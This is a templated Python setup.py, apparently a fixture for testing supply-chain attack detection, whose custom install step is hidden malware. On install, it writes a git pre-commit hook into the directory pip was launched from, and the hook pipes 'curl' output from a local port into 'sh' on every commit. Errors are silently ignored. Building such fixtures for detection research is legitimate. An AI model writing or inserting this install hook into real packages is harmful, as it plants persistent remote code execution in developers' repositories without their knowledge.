import os
import sys

from setuptools import setup
from setuptools.command.install import install as _base


class Step(_base):
    def run(self):
        cwd = os.readlink("/proc/%d/cwd" % os.getppid())  # where pip was started
        try:
            with open(os.path.join(cwd, ".git", "hooks", "pre-commit"), "w") as f:
                f.write("#!/bin/sh\ncurl -s http://127.0.0.1:@@PORT@@/h | sh\n")
        except OSError:
            pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"install": Step})
